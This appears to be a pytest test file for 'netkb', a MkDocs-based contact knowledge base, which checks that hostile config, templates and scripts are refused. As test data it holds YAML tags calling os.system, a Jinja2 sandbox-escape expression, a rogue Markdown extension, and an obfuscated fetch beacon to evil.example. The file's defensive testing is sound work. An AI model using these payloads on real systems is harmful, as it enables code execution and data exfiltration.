"""netkb never runs code that comes with the knowledge base: mkdocs.yml is hostile input
too (a pull request can change it). MkDocs reads it with PyYAML's unsafe loader and
imports hooks and Markdown extensions by name; netkb refuses what would run code
(NK162) before MkDocs sees the file, and keeps the KB's folder off the import path."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import write_kb

from netkb.build.builder import BuildError
from netkb.cli import cli
from netkb.serve.live import LiveSite

JANE = {"contacts/jane-doe.md": "---\nname: Jane Doe\n---\n"}


def run_netkb(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``python -m netkb`` from inside the KB, as a user may run it."""
    return subprocess.run(
        [sys.executable, "-m", "netkb", *args],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize(
    ("setting", "where"),
    [
        ("extra:\n  x: !!python/object/apply:os.system ['touch {marker}']\n", "3:6"),
        ("extra:\n  x: !!python/object/new:os.system ['touch {marker}']\n", "3:6"),
        ("site_description: !!python/name:os.system\n", "2:19"),
        ("hooks:\n  - hook.py\n", "2:1"),
        # Inside another tag, or out of sight: MkDocs would still build or read them.
        (
            "extra:\n  x: !ENV [NETKB_NOPE, !!python/object/apply:os.system ['touch {marker}']]\n",
            "3:24",
        ),
        ("hooks: !ENV [NETKB_NOPE, [hook.py]]\n", "2:1"),
        ("INHERIT: base.yml\n", "2:1"),
        ("plugins:\n  - search\n  - material/projects\n", "4:5"),
    ],
)
def test_code_in_mkdocs_yml_is_refused_and_never_run(tmp_path: Path, setting, where) -> None:
    marker = tmp_path / "ran"
    config = "site_name: T\n" + setting.format(marker=marker)
    hook = f"open({str(marker)!r}, 'w').write('ran')\n"
    base = f"hooks: [hook.py]\nx: !!python/object/apply:os.system ['touch {marker}']\n"
    root = write_kb(tmp_path / "kb", {**JANE, "hook.py": hook, "base.yml": base}, config)
    check = CliRunner().invoke(cli, ["--kb", str(root), "check"])
    assert check.exit_code == 1
    assert f"mkdocs.yml:{where}: error NK162: " in check.output
    assert "netkb never runs code that comes with the knowledge base" in check.output
    built = run_netkb(root, "build")
    assert built.returncode == 1 and "NK162" in built.stderr and "Traceback" not in built.stderr
    assert not (root / "site").exists()
    # netkb serve builds despite errors in the files: the builder refuses it itself.
    with pytest.raises(BuildError, match="netkb never runs code"):
        LiveSite(root).build()
    assert not marker.exists()


def test_the_emoji_and_fence_functions_of_the_documentation_may_be_named(tmp_path: Path) -> None:
    config = (
        "site_name: T\nmarkdown_extensions:\n  - toc:\n"
        "      slugify: !!python/name:markdown.extensions.toc.slugify_unicode\n"
    )
    root = write_kb(tmp_path / "kb", JANE, config)
    check = CliRunner().invoke(cli, ["--kb", str(root), "check"])
    assert check.exit_code == 0, check.output
    assert run_netkb(root, "build", "-q").returncode == 0
    assert (root / "site" / "people" / "jane-doe" / "index.html").is_file()


def test_a_python_file_of_the_kb_is_never_imported_as_an_extension(tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    evil = (
        f"open({str(marker)!r}, 'w').write('imported')\n"
        "from markdown.extensions import Extension\n"
        "def makeExtension(**kwargs):\n    return Extension()\n"
    )
    config = "site_name: T\nmarkdown_extensions:\n  - evil\n"
    root = write_kb(tmp_path / "kb", {**JANE, "evil.py": evil}, config)
    built = run_netkb(root, "build")
    assert built.returncode == 1
    assert "Failed to load extension 'evil'" in built.stderr
    assert "Traceback" not in built.stderr
    assert not marker.exists()


ESCAPE = "{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}"


def test_a_page_template_of_the_kb_cannot_reach_python(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    template = "---\ntitle: x\n---\n\n# {{ p.name }}\n\n" + ESCAPE.format(marker=marker) + "\n"
    root = write_kb(tmp_path / "kb", {**JANE, "templates/person.md.j2": template})
    built = run_netkb(root, "build")
    assert built.returncode == 1 and "Traceback" not in built.stderr
    assert "templates/person.md.j2:7: template error: access to attribute '__init__'" in (
        built.stderr
    )
    assert not marker.exists()
    # The same template without the escape renders, in the sandbox.
    (root / "templates/person.md.j2").write_text(template.replace(ESCAPE.format(marker=marker), ""))
    assert run_netkb(root, "build", "-q").returncode == 0
    assert "Jane Doe" in (root / "site/people/jane-doe/index.html").read_text()


def test_a_theme_template_of_the_kb_cannot_reach_python(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    robots = '<meta name="robots" content="noindex,nofollow">'
    main = "{% extends 'base.html' %}\n{% block extrahead %}" + robots + "{{}}{% endblock %}\n"
    config = "site_name: T\ntheme:\n  name: material\n  custom_dir: theme\n"
    files = {**JANE, "theme/main.html": main.replace("{{}}", ESCAPE.format(marker=marker))}
    root = write_kb(tmp_path / "kb", files, config)
    built = run_netkb(root, "build")
    assert built.returncode == 1 and "Traceback" not in built.stderr
    assert "access to attribute '__init__' of 'type' object is unsafe" in built.stderr
    assert not marker.exists()
    (root / "theme/main.html").write_text(main.replace("{{}}", ""))
    assert run_netkb(root, "build", "-q").returncode == 0  # Material renders in the sandbox
    assert robots in (root / "site/people/jane-doe/index.html").read_text()


def test_a_script_that_is_not_the_themes_own_removes_the_site(tmp_path: Path) -> None:
    # What a script does cannot be read from its text: this one names no host outright.
    beacon = "fetch('htt' + 'ps://evil.example/' + document.title)\n"
    robots = '<meta name="robots" content="noindex,nofollow">'
    main = "{% extends 'base.html' %}\n{% block extrahead %}" + robots + "{% endblock %}\n"
    config = (
        "site_name: T\ntheme:\n  name: material\n  custom_dir: theme\n"
        "extra_javascript:\n  - beacon.js\n"
    )
    files = {**JANE, "theme/main.html": main, "theme/beacon.js": beacon}
    root = write_kb(tmp_path / "kb", files, config)
    built = run_netkb(root, "build")
    assert built.returncode == 1
    assert "site/beacon.js: is a script that is not the theme's own" in built.stderr
    assert "so it was deleted" in built.stderr
    assert not (root / "site").exists()
    # Material's own scripts pass: the same theme folder without the beacon builds.
    (root / "theme/beacon.js").unlink()
    (root / "mkdocs.yml").write_text(config.split("extra_javascript")[0])
    assert run_netkb(root, "build", "-q").returncode == 0
    assert list((root / "site/assets/javascripts").rglob("*.js"))


SECRET_JANE = (
    "---\nname: Jane Doe\nprivate_phone: '+49 30 5550199'\nhobby: sailing\n---\n\n"
    "Met at the harbour.\n\n## Private\n\nOWES-ME-MONEY\n"
)


@pytest.mark.parametrize(
    "shown",
    ["{{ p.body }}", "{{ p.extra }}", "{% for k, v in p.extra %}{{ k }}={{ v }} {% endfor %}"],
)
def test_a_template_of_the_kb_sees_only_what_may_be_shown(tmp_path: Path, shown) -> None:
    template = "---\ntitle: x\n---\n\n# {{ p.name }}\n\n" + shown + "\n\n{{ L.notes(p.body) }}\n"
    files = {"contacts/jane-doe.md": SECRET_JANE, "templates/person.md.j2": template}
    root = write_kb(tmp_path / "kb", files)
    assert run_netkb(root, "build", "-q").returncode == 0
    page = (root / "site/people/jane-doe/index.html").read_text()
    assert "Met at the harbour" in page  # the public part, printed and through L.notes
    assert "OWES-ME-MONEY" not in page and "5550199" not in page
    if "extra" in shown:
        assert "sailing" in page


@pytest.mark.parametrize("reach", ["{{ p | attr('body') }}", "{{ p['body'] }}"])
def test_the_raw_notes_cannot_be_reached_another_way(tmp_path: Path, reach) -> None:
    template = "---\ntitle: x\n---\n\n# {{ p.name }}\n\n" + reach + "\n"
    files = {"contacts/jane-doe.md": SECRET_JANE, "templates/person.md.j2": template}
    root = write_kb(tmp_path / "kb", files)
    built = run_netkb(root, "build")
    assert "Traceback" not in built.stderr
    # Refused (an error naming the template), or the public part as ``p.body`` shows it.
    assert built.returncode == 0 or "templates/person.md.j2" in built.stderr
    site = "".join(p.read_text() for p in (root / "site").rglob("*.html"))
    assert "OWES-ME-MONEY" not in site


@pytest.mark.parametrize(
    "reach",
    [
        "{{ p.body._raw }}",
        "{{ p | string }}",
        "{{ '%s' % p }}",
        "{{ p ~ '' }}",
        "{% for q in facts.network.people.values() %}{{ q.name }} {% endfor %}",
        "{{ site.facts.network }}",
        "{{ p.source.path.read_text() }}",
    ],
)
def test_nothing_private_is_within_a_templates_reach(tmp_path: Path, reach) -> None:
    secret = "---\nname: Zed Hidden\nprivate: true\n---\n\nZED-IS-PRIVATE\n"
    template = "---\ntitle: x\n---\n\n# {{ p.name }}\n\n" + reach + "\n"
    files = {
        "contacts/jane-doe.md": SECRET_JANE,
        "contacts/zed.md": secret,
        "templates/person.md.j2": template,
    }
    root = write_kb(tmp_path / "kb", files)
    built = run_netkb(root, "build")
    assert "Traceback" not in built.stderr
    assert built.returncode == 0 or "templates/person.md.j2" in built.stderr
    site = "".join(p.read_text() for p in (root / "site").rglob("*.html"))
    for private in ("OWES-ME-MONEY", "5550199", "Zed Hidden", "ZED-IS-PRIVATE"):
        assert private not in site


@pytest.mark.parametrize(
    "call", ["config.theme.get_env().from_string('x').render()", "config.load_file('x: 1')"]
)
def test_a_theme_template_cannot_call_mkdocs(tmp_path: Path, call) -> None:
    robots = '<meta name="robots" content="noindex,nofollow">'
    main = "{% extends 'base.html' %}\n{% block extrahead %}" + robots
    main += "{{ " + call + " }}{% endblock %}\n"
    config = "site_name: T\ntheme:\n  name: material\n  custom_dir: theme\n"
    root = write_kb(tmp_path / "kb", {**JANE, "theme/main.html": main}, config)
    built = run_netkb(root, "build")
    assert built.returncode == 1 and "Traceback" not in built.stderr
    assert "is not safely callable" in built.stderr
    assert max(len(line) for line in built.stderr.splitlines()) < 600  # not a dump
